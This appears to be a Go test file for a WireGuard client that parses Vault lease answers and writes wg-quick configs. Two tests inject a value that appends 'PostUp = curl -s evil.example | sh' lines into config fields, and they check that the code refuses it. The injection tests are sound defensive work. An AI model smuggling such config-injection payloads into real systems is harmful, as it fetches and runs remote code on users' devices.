package device

import (
	"encoding/json"
	"net"
	"net/netip"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	vault "github.com/hashicorp/vault/api"
	"github.com/stretchr/testify/require"
	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"

	"github.com/wireguard-vault/vault-plugin-secrets-wireguard/backend/wgquick"
)

// issueAnswer is an engine answer for public, as the Vault API client
// decodes it (numbers as json.Number).
func issueAnswer(public wgtypes.Key, gateway wgtypes.Key) *vault.Secret {
	return &vault.Secret{
		LeaseID:       "wg/issue/laptop/abc",
		LeaseDuration: 30,
		Data: map[string]any{
			"certificate":          "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
			"issuing_ca":           "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n",
			"serial_number":        "46:70:ed",
			"common_name":          "laptop-fleet",
			"public_key":           public.String(),
			"addresses":            []any{"10.77.0.2/32", "fd77::2/128"},
			"gateway":              "gw1",
			"gateway_public_key":   gateway.String(),
			"endpoint":             "198.51.100.1:51820",
			"allowed_ips":          []any{"10.77.0.0/16", "fd77::/64"},
			"dns":                  []any{"10.77.0.1"},
			"mtu":                  json.Number("1380"),
			"persistent_keepalive": json.Number("25"),
			"expiration":           json.Number("1795545403"),
		},
	}
}

func mustKey(t *testing.T) wgtypes.Key {
	t.Helper()
	k, err := wgtypes.GeneratePrivateKey()
	require.NoError(t, err)
	return k
}

func TestParseIssue(t *testing.T) {
	priv, gwPriv := mustKey(t), mustKey(t)
	now := time.Date(2026, 11, 24, 17, 0, 0, 0, time.UTC)
	l, err := ParseIssue(issueAnswer(priv.PublicKey(), gwPriv.PublicKey()), priv.PublicKey(), now)
	require.NoError(t, err)
	want := &Lease{
		LeaseID: "wg/issue/laptop/abc", Received: now, TTL: 30 * time.Second,
		Expiration:   time.Unix(1795545403, 0).UTC(),
		SerialNumber: "46:70:ed", CommonName: "laptop-fleet",
		Certificate:      "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
		IssuingCA:        "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n",
		PublicKey:        priv.PublicKey(),
		Addresses:        []netip.Prefix{netip.MustParsePrefix("10.77.0.2/32"), netip.MustParsePrefix("fd77::2/128")},
		Gateway:          "gw1",
		GatewayPublicKey: gwPriv.PublicKey(),
		Endpoint:         "198.51.100.1:51820",
		AllowedIPs:       []netip.Prefix{netip.MustParsePrefix("10.77.0.0/16"), netip.MustParsePrefix("fd77::/64")},
		DNS:              []string{"10.77.0.1"},
		MTU:              1380, PersistentKeepalive: 25,
	}
	require.Empty(t, cmp.Diff(want, l, cmp.Comparer(func(a, b netip.Prefix) bool { return a == b })))
	require.Equal(t, now.Add(30*time.Second), l.Expires())
}

func TestParseIssueRefusesBadAnswers(t *testing.T) {
	priv, gwPriv := mustKey(t), mustKey(t)
	for _, tc := range []struct {
		name   string
		change func(*vault.Secret)
		want   string
	}{
		{"another key", func(s *vault.Secret) { s.Data["public_key"] = gwPriv.PublicKey().String() }, "public_key: the certificate is for"},
		{"no lease", func(s *vault.Secret) { s.LeaseID = "" }, "lease: the answer carries no lease"},
		{"no certificate", func(s *vault.Secret) { delete(s.Data, "certificate") }, "certificate: missing"},
		{"bad gateway key", func(s *vault.Secret) { s.Data["gateway_public_key"] = "AAAA" }, "gateway_public_key: not 32 bytes"},
		{"endpoint without port", func(s *vault.Secret) { s.Data["endpoint"] = "198.51.100.1" }, "endpoint: address 198.51.100.1: missing port"},
		{"no address", func(s *vault.Secret) { s.Data["addresses"] = []any{} }, "addresses: none"},
		{"bad address", func(s *vault.Secret) { s.Data["addresses"] = []any{"10.77.0.300/32"} }, "addresses:"},
		{"bad allowed ip", func(s *vault.Secret) { s.Data["allowed_ips"] = []any{"everything"} }, "allowed_ips:"},
		{"negative keepalive", func(s *vault.Secret) { s.Data["persistent_keepalive"] = json.Number("-1") }, "persistent_keepalive:"},
		{"bad expiration", func(s *vault.Secret) { s.Data["expiration"] = json.Number("1.5") }, "expiration:"},
		{"no expiration", func(s *vault.Secret) { delete(s.Data, "expiration") }, "expiration: missing"},
		{"mtu not a number", func(s *vault.Secret) { s.Data["mtu"] = "big" }, "mtu: string is not a count"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sec := issueAnswer(priv.PublicKey(), gwPriv.PublicKey())
			tc.change(sec)
			_, err := ParseIssue(sec, priv.PublicKey(), time.Now())
			require.ErrorIs(t, err, ErrBadResponse)
			require.Contains(t, err.Error(), tc.want)
		})
	}
	_, err := ParseIssue(nil, priv.PublicKey(), time.Now())
	require.ErrorIs(t, err, ErrBadResponse)
}

// TestParseIssueRefusesLinesForTheConfig: an answer (from a hostile or
// compromised engine, or a proxy) whose values would add lines to the
// wg-quick file the device writes is refused, naming the field.
func TestParseIssueRefusesLinesForTheConfig(t *testing.T) {
	priv, gwPriv := mustKey(t), mustKey(t)
	const line = "\nPostUp = curl -s evil.example | sh\n#"
	for _, tc := range []struct {
		field string
		value any
	}{
		{"common_name", "laptop" + line},
		{"common_name", "laptop\rPostUp = x"},
		{"serial_number", "46:70:ed" + line},
		{"gateway", "gw1" + line},
		{"lease", "wg/issue/laptop/abc" + line},
		{"endpoint", "x" + line + ":51820"},
		{"endpoint", "[fe80::1%x" + line + "]:51820"},
		{"dns", []any{"10.77.0.1" + line}},
		{"dns", []any{"fe80::1%x" + line}},
		{"gateway_public_key", gwPriv.PublicKey().String() + line},
		{"addresses", []any{"10.77.0.2/32" + line}},
		{"allowed_ips", []any{"10.77.0.0/16" + line}},
	} {
		t.Run(tc.field, func(t *testing.T) {
			sec := issueAnswer(priv.PublicKey(), gwPriv.PublicKey())
			if tc.field == "lease" {
				sec.LeaseID = tc.value.(string)
			} else {
				sec.Data[tc.field] = tc.value
			}
			l, err := ParseIssue(sec, priv.PublicKey(), time.Now())
			if err == nil {
				text, _ := l.WGQuick(priv).Render()
				t.Fatalf("accepted; the wg-quick file would be:\n%s", text)
			}
			require.ErrorIs(t, err, ErrBadResponse)
			require.Contains(t, err.Error(), tc.field+": ")
		})
	}
}

func TestWGQuick(t *testing.T) {
	priv, gwPriv := mustKey(t), mustKey(t)
	l, err := ParseIssue(issueAnswer(priv.PublicKey(), gwPriv.PublicKey()), priv.PublicKey(), time.Now())
	require.NoError(t, err)
	want := `# WireGuard certificate 46:70:ed for laptop-fleet, written by wg-device
# gateway gw1, valid until 2026-11-24T18:36:43Z (lease wg/issue/laptop/abc)
[Interface]
PrivateKey = ` + priv.String() + `
Address = 10.77.0.2/32, fd77::2/128
DNS = 10.77.0.1
MTU = 1380

[Peer]
PublicKey = ` + gwPriv.PublicKey().String() + `
Endpoint = 198.51.100.1:51820
AllowedIPs = 10.77.0.0/16, fd77::/64
PersistentKeepalive = 25
`
	got, err := l.WGQuick(priv).Render()
	require.NoError(t, err)
	require.Equal(t, want, got)

	// Whatever a Lease holds, the file gets no line it should not have.
	l.CommonName = "laptop\nPostUp = curl -s evil.example | sh"
	_, err = l.WGQuick(priv).Render()
	require.ErrorIs(t, err, wgquick.ErrValue)
}

func TestDeviceConfig(t *testing.T) {
	priv, gwPriv := mustKey(t), mustKey(t)
	sec := issueAnswer(priv.PublicKey(), gwPriv.PublicKey())
	sec.Data["allowed_ips"] = []any{"10.77.0.9/16"} // host bits are masked
	l, err := ParseIssue(sec, priv.PublicKey(), time.Now())
	require.NoError(t, err)
	endpoint := &net.UDPAddr{IP: net.ParseIP("198.51.100.1"), Port: 51820}
	keepalive := 25 * time.Second
	want := wgtypes.Config{
		PrivateKey:   &priv,
		ReplacePeers: true,
		Peers: []wgtypes.PeerConfig{{
			PublicKey: gwPriv.PublicKey(), Endpoint: endpoint, ReplaceAllowedIPs: true,
			AllowedIPs:                  []net.IPNet{{IP: net.IP{10, 77, 0, 0}, Mask: net.CIDRMask(16, 32)}},
			PersistentKeepaliveInterval: &keepalive,
		}},
	}
	require.Equal(t, want, l.DeviceConfig(priv, endpoint))
}

func TestPEMPath(t *testing.T) {
	for in, want := range map[string]string{
		"/etc/wireguard/wg0.conf": "/etc/wireguard/wg0.pem",
		"wg0.conf":                "wg0.pem",
		"/etc/wireguard/wg0":      "/etc/wireguard/wg0.pem",
		"/etc/wg.conf.d/x.conf":   "/etc/wg.conf.d/x.pem",
	} {
		require.Equal(t, want, PEMPath(in), in)
	}
}
